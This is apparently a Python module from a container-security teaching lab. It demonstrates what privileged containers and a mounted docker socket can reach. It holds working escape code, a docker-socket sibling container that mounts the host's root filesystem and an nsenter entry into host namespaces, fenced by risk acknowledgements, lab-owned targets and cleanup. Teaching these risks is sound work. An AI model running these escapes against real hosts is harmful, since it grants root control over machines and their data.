"""Notebook 05: what `--privileged` and a mounted docker socket give a container, shown on
lab-owned targets only. Every risky helper wants `acknowledge_risk=True` and removes what it
started before it returns, even when the cell fails."""
from __future__ import annotations

import contextlib
import secrets
import subprocess
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any, Iterator

from .containers import Container, exec_command, run_command
from .core.render import Renderable, Stack, callout, table
from .core.capabilities import CAP_NAMES
from .core.engine import unix_socket
from .core.errors import LabkitError

if TYPE_CHECKING:
    from .lab import Lab

DOCKER_SOCKET = "/var/run/docker.sock"


class RiskNotAcknowledged(LabkitError):
    default_hint = "Read the cell's explanation, then call it again with acknowledge_risk=True."


def _require_ack(acknowledge_risk: bool, what: str) -> None:
    if not acknowledge_risk:
        raise RiskNotAcknowledged(f"{what} gives a container root power over this machine.")


@dataclass
class PrivilegeMode(Renderable):
    """How this engine grants "privileged": the real flag, or the closest equivalent."""

    options: dict[str, Any]
    real: bool
    missing: list[str]

    def _render(self):
        if self.real:
            return callout("info", "Privileged", "This engine grants --privileged as is.")
        return callout("warning", "Privileged, nearly", "This engine refuses --privileged: its own capability "
                       f"bounding set lacks {', '.join('CAP_' + c for c in self.missing)}, and a container can "
                       "never get more than the daemon has. The labs use the closest equivalent instead: "
                       "every other capability, no seccomp filter, no AppArmor profile, and the host's devices.",
                       hint="On your laptop's Docker, --privileged works as is.")


def privilege_mode(lab: "Lab") -> PrivilegeMode:
    caps = lab.capabilities
    if lab.rootless or caps.privileged or caps.rootless:  # rootless: the flag works, it just cannot exceed the user
        return PrivilegeMode({"privileged": True}, True, [])
    devices = [f"{d}:{d}:rwm" for d in _host_devices()]
    return PrivilegeMode({"cap_add": ["ALL"], "cap_drop": list(caps.missing_caps),
                          "security_opt": ["seccomp=unconfined", "apparmor=unconfined"],
                          "devices": devices}, False, list(caps.missing_caps))


def _host_devices() -> list[str]:
    out = []
    for d in sorted(Path("/sys/block").glob("*")):
        if not d.name.startswith(("loop", "ram")) and Path(f"/dev/{d.name}").exists():
            out.append(f"/dev/{d.name}")
    return out


@contextlib.contextmanager
def privileged(lab: "Lab", image: str = "labkit/busybox", command: Any = ("sleep", "600"), *,
               acknowledge_risk: bool = False, **kwargs: Any) -> Iterator[Container]:
    """`with privileged(lab, ..., acknowledge_risk=True) as c:` a privileged container that is
    removed when the block ends, whatever happens inside it."""
    _require_ack(acknowledge_risk, "A privileged container")
    container = lab.start(image, list(command), **{**privilege_mode(lab).options, **kwargs})
    try:
        yield container
    finally:
        container.remove()


@dataclass
class ContainerPowers(Renderable):
    rows: list[tuple[str, str, str]]
    equivalent: str = ""  # both containers, the probes, the removal

    def _render(self):
        return table(["what the process has", "default container", "privileged container"], self.rows,
                     title="Inside a default and a privileged container")


def capabilities_of(container: Container) -> list[str]:
    """The effective capabilities of the container's PID 1 (CapEff decoded)."""
    status = container.exec(["cat", "/proc/1/status"], check=True).stdout
    mask = int(next(line.split()[1] for line in status.splitlines() if line.startswith("CapEff")), 16)
    return [name for i, name in enumerate(CAP_NAMES) if mask >> i & 1]


def powers(lab: "Lab", *, acknowledge_risk: bool = False) -> ContainerPowers:
    """Run the same probes in a default and in a privileged container."""
    _require_ack(acknowledge_risk, "The privileged half of this comparison")
    probes = {
        "seccomp filter": "grep Seccomp: /proc/1/status | awk '{print ($2==2 ? \"on\" : \"off\")}'",
        "devices in /dev": "ls /dev | wc -l",
        "block devices of the host": "ls /dev | grep -E '^(sd|vd|nvme|xvd)' | tr '\\n' ' ' || true",
        "may mount a filesystem": "mkdir -p /m && mount -t tmpfs none /m 2>/dev/null && echo yes || echo no",
        "may write /proc/sys": "echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo yes || echo no",
    }
    with lab.start("labkit/busybox", ["sleep", "600"], name="powers-default") as plain, \
            privileged(lab, name="powers-privileged", acknowledge_risk=True) as priv:
        rows = [("capabilities", f"{len(capabilities_of(plain))} of {len(CAP_NAMES)}",
                 f"{len(capabilities_of(priv))} of {len(CAP_NAMES)}")]
        ran = [plain.equivalent, priv.equivalent, exec_command(priv.name, ["cat", "/proc/1/status"])]
        for what, probe in probes.items():
            rows.append((what, plain.exec(["sh", "-c", probe]).stdout.strip() or "none",
                         (done := priv.exec(["sh", "-c", probe])).stdout.strip() or "none"))
            ran.append(done.equivalent)
        ran.append(f"docker rm -f {plain.name} {priv.name}  # each exec ran in {plain.name} too")
    return ContainerPowers(rows, " && ".join(ran))


@dataclass
class HostMarker:
    """A file the lab made on the host, readable only by its owner; removed at cleanup."""

    path: Path
    content: str


def host_marker(lab: "Lab") -> HostMarker:
    folder = lab.track_path(Path(tempfile.gettempdir()) / f"labkit-marker-{lab.session}")
    folder.mkdir(mode=0o700, exist_ok=True)
    content = "marker-" + secrets.token_hex(8)
    path = folder / "only-the-owner-may-read.txt"
    path.touch(mode=0o600)
    path.write_text(content + "\n")
    return HostMarker(path, content)


@dataclass
class Escape(Renderable):
    """What a container read on the host, and how."""

    how: str
    command: str
    output: str
    proved: bool
    equivalent: str = ""  # the container(s) started, what ran inside, the removal

    def _render(self):
        kind, title = ("error", "Host reached") if self.proved else ("success", "Host not reached")
        return Stack([callout(kind, title, self.how), table(["command inside the container", "output"],
                                                            [(self.command, self.output or "(nothing)")])])


def socket_escape(lab: "Lab", marker: HostMarker, socket_path: str | None = None, *,
                  acknowledge_risk: bool = False) -> Escape:
    """A container with the docker socket mounted asks the engine for a sibling container that
    mounts the host's / and reads the lab's marker file there. Both are gone when this returns.
    The socket is the lab's own engine (through its session endpoint): never a fixed path, which
    may be another engine or, where none is, a directory the bind mount would create."""
    _require_ack(acknowledge_risk, "Mounting the docker socket")
    if socket_path is None:
        socket_path = str(lab.endpoint.path) if lab.endpoint is not None else unix_socket(lab.daemon_url, "The demo")
    from .hosttools import host_binary_command, host_binary_files
    tools = lab.track_path(Path(tempfile.mkdtemp(prefix=f"labkit-tools-{lab.session}-")))
    tools.chmod(0o755)  # a rootless engine (notebook 06) bind-mounts it as an unprivileged user
    for rel, data in host_binary_files("docker", prefix="t").items():
        (tools / rel).parent.mkdir(mode=0o755, parents=True, exist_ok=True)
        (tools / rel).write_bytes(data)
        (tools / rel).chmod(0o755)
    docker = " ".join(host_binary_command("docker", prefix="/t"))
    labels = " ".join(f"--label {k}={v}" for k, v in lab.labels.items())  # the sibling is the lab's too
    inner = f"{docker} run --rm {labels} -v /:/host labkit/busybox cat /host{marker.path}"
    with lab.start("labkit/busybox", ["sleep", "600"], name="wormhole", volumes={
            socket_path: {"bind": "/var/run/docker.sock", "mode": "rw"}, str(tools / "t"): {"bind": "/t", "mode": "ro"}},
            environment={"DOCKER_API_VERSION": lab.client.version()["ApiVersion"]}) as wormhole:
        result = wormhole.exec(["sh", "-c", inner + " 2>&1"])
    shown = inner.replace(labels, "").replace(docker, "docker").replace("  ", " ")  # session labels left out
    ran = [wormhole.equivalent, exec_command(wormhole.name, ["sh", "-c", shown + " 2>&1"]), f"docker rm -f {wormhole.name}"]
    out = result.stdout.strip()
    return Escape("A container with the docker socket asked the engine for a sibling that mounts the host's / "
                  "and read the lab's owner-only file." if marker.content in out else
                  "The engine behind this socket could not reach the file.",
                  inner.replace(labels, "--label ...").replace(docker, "docker"), out[-300:], marker.content in out,
                  " && ".join(ran))


def host_process(lab: "Lab") -> int:
    """A lab-owned process on the host (a sleep), the target for nsenter; killed at cleanup."""
    proc = subprocess.Popen(["sleep", "3600"], start_new_session=True, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    lab.track_process(proc)
    return proc.pid


def nsenter_escape(lab: "Lab", pid: int, marker: HostMarker, *, acknowledge_risk: bool = False) -> Escape:
    """From a privileged container sharing the host's PID namespace, enter the namespaces of the
    lab's host process `pid` and read the marker file in *its* mount namespace."""
    _require_ack(acknowledge_risk, "nsenter from a privileged --pid=host container")
    if pid <= 1:
        raise LabkitError("PID 1 is never a target here.", "Pass the pid from host_process(lab).")
    if not lab.session.tracks("pid", str(pid)):  # only processes this session started itself
        raise LabkitError(f"Process {pid} was not started by this lab.", "Pass the pid from host_process(lab).")
    command = f"nsenter -t {pid} -m -u -i -n -p cat {marker.path}"
    # what privileged() runs: --privileged, or the closest this engine grants (privilege_mode)
    attempted = run_command("run -d", "labkit/busybox", ["sleep", "600"],
                            **{**privilege_mode(lab).options, "pid_mode": "host", "name": lab.name("nsenter")})
    try:
        with privileged(lab, pid_mode="host", name="nsenter", acknowledge_risk=True) as c:
            look = c.exec(["sh", "-c", f"cat /proc/{pid}/cmdline 2>/dev/null | tr '\\0' ' '"])
            seen = look.stdout.strip()
            if not seen.startswith("sleep 3600"):
                return Escape(f"This engine's PID namespace does not contain process {pid} (the engine runs in a "
                              "VM or on another machine): nothing to enter.", command, seen, False,
                              " && ".join([c.equivalent, look.equivalent, f"docker rm -f {c.name}"]))
            entered = c.exec(["sh", "-c", command + " 2>&1"])
            ran = [c.equivalent, look.equivalent, entered.equivalent, f"docker rm -f {c.name}"]
            out = entered.stdout.strip()
    except LabkitError as exc:  # e.g. a rootless engine: the kernel refuses to mount the host's /proc
        return Escape("The engine could not even start a privileged container in the host's PID namespace.",
                      attempted, exc.message.split(": ", 1)[-1][-300:], False, attempted)
    return Escape("The container entered the mount, UTS, IPC, network and PID namespaces of a host process "
                  "and read a file of the host." if marker.content in out else "nsenter could not enter the "
                  "host process's namespaces.", command.replace(str(pid), "PID"), out[-300:], marker.content in out,
                  " && ".join(ran))
